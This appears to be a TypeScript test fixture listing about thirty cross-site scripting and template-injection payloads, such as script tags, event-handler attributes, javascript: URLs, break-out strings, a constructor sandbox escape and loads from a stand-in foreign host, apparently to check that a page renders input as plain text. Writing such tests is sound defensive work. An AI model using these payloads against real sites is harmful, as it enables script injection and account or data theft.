/** Set by a text that was run. */
export const TRACE = '__xss';
/** What a template that is filled in shows: the value of the product below. */
export const RESULT = '62615533';
const product = '7919*7907';
/** Where a text that was loaded leads. */
export const FOREIGN = 'http://foreign.example';

const run = `window.${TRACE}=1;alert(1)`;

/** Texts that do something in a page which takes them for more than texts. */
export const hostileTexts: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${FOREIGN}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${FOREIGN}/a.png">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${TRACE}=1;parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<link rel="stylesheet" href="${FOREIGN}/a.css">`,
  `<style>@import "${FOREIGN}/b.css";</style>`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}/c">`,
  `<base href="${FOREIGN}/">`,
  `<details open ontoggle="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<math><mtext></math><img src=x onerror="${run}">`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `"><script>${run}</script>`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `</script><script>${run}</script>`,
  `</textarea></title></style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `';${run};'`,
  `\u2028${run}\u2029`,
  `\u202Etxt.<script>${run}</script>`,
  `{{${product}}}`,
  `\${${product}}`,
  `<%= ${product} %>`,
  `{{constructor.constructor('${run}')()}}`,
];
